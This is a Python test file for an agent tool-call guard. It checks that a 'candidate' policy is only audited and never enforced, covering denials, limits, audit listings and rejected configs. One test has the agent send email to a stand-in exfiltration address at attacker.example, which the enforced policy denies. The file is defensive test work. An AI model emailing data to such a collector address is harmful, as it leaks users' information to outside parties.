"""`yett mcp --candidate Q`: Q is judged by too and recorded, never enforced and never counted."""

import json

import guarded
import yett
from guarded import decision
from yett import DESKMATE, err, out, rows, run


class Candidate(yett.InScratchFolder):
    def guard(self, candidate, *words, policy=DESKMATE):
        guard = guarded.Guarded(self.folder, "--candidate", candidate, "--hold", "0", *words, policy=policy)
        self.addCleanup(guard.close)
        return guard

    def records(self, guard, *words):
        return rows(run("audit", "list", "--state", guard.state, "--format", "json", *words))

    def stricter(self):
        """No outbound mail or webhook at all."""
        text = DESKMATE.read_text().replace('["deskmate.internal"]', "[]").replace('["hooks.deskmate.internal"]', "[]")
        return self.write("next.toml", text)

    def test_what_it_would_deny_runs_and_is_recorded(self):
        guard = self.guard(self.stricter())
        hook = {"url": "https://hooks.deskmate.internal/in", "body": "b"}
        self.assertFalse(guard.call("read_ticket", {"id": "T-1"}).get("isError"))
        self.assertFalse(guard.call("call_webhook", hook).get("isError"))
        kinds = [(record["tool"], record["decision"], record["rule"], record["intent"]["enforced"], record["intent"]["enforced_rule"])
                 for record in self.records(guard, "--kind", "candidate")]
        self.assertEqual(kinds[0], ("read_ticket", "allow", "default.allow", "allow", "default.allow"))
        self.assertEqual(kinds[1], ("call_webhook", "deny", "destination.unlisted", "allow", "default.allow"))
        differing = self.records(guard, "--candidate")
        self.assertEqual({record["tool"] for record in differing}, {"call_webhook"})
        # It names itself as the policy, and the call as the ruling in force does.
        enforced = {record["call"] for record in self.records(guard, "--kind", "decision") if record["tool"] == "call_webhook"}
        self.assertEqual({record["call"] for record in differing}, enforced)
        self.assertNotEqual(differing[0]["policy"], self.records(guard, "--kind", "decision")[0]["policy"])
        self.assertEqual(run("audit", "verify", "--state", guard.state).returncode, 0)

    def test_what_it_would_allow_stays_denied(self):
        wider = self.write("next.toml", DESKMATE.read_text().replace('["deskmate.internal"]', '["deskmate.internal", "attacker.example"]'))
        guard = self.guard(wider)
        refused = decision(guard.call("send_email", {"to": "collector@attacker.example", "subject": "s", "body": "b"}))
        self.assertEqual((refused["decision"], refused["rule"]), ("deny", "destination.unlisted"))
        [record] = self.records(guard, "--candidate")
        self.assertEqual((record["decision"], record["rule"]), ("confirm", "approval.dangerous"))
        self.assertEqual(json.loads(out(run("approvals", "list", "--state", guard.state, "--format", "json"))), [], "nobody is asked")

    def test_its_denials_count_against_no_limit(self):
        policy = self.write("now.toml", DESKMATE.read_text() + "\n[limits]\ndenials = 3\n")
        stricter = self.write("next.toml", DESKMATE.read_text().replace('["hooks.deskmate.internal"]', "[]") + "\n[limits]\ndenials = 3\n")
        guard = self.guard(stricter, policy=policy)
        for number in range(6):
            self.assertFalse(guard.call("call_webhook", {"url": "https://hooks.deskmate.internal/in", "body": f"b{number}"}).get("isError"))
        self.assertEqual(len(self.records(guard, "--candidate")), 6)

    def test_lists_for_people_show_it_only_when_asked(self):
        guard = self.guard(self.stricter())
        guard.call("call_webhook", {"url": "https://hooks.deskmate.internal/in", "body": "b"})
        for words in ([], ["--run", "r-1"]):
            self.assertNotIn("in force", out(run("audit", "list", "--state", guard.state, *words)))
        shown = out(run("audit", "list", "--state", guard.state, "--candidate"))
        self.assertIn("in force: allow", " ".join(shown.split()))
        self.assertIn("destination.unlisted", shown)
        self.assertIn("实际执行：allow", out(run("audit", "list", "--state", guard.state, "--candidate", "--lang", "zh")))

    def test_a_candidate_that_cannot_be_used_starts_nothing(self):
        for text, words in (("", "next.toml"), (DESKMATE.read_text().replace("version = 1", "version = 2"), "unknown version"),
                            (DESKMATE.read_text().replace("[session]", '[session]\ntenant = "globex"'), "grants no such session")):
            with self.assertRaises(guarded.Ended) as ended:
                self.guard(self.write("next.toml", text))
            self.assertIn(words, str(ended.exception))
        with self.assertRaises(guarded.Ended):
            self.guard(self.write("loose.toml", DESKMATE.read_text(), 0o666))

    def test_without_one_nothing_is_recorded_of_any(self):
        guard = guarded.Guarded(self.folder, "--hold", "0")
        self.addCleanup(guard.close)
        guard.call("read_ticket", {"id": "T-1"})
        self.assertEqual(self.records(guard, "--kind", "candidate"), [])


if __name__ == "__main__":
    yett.main()
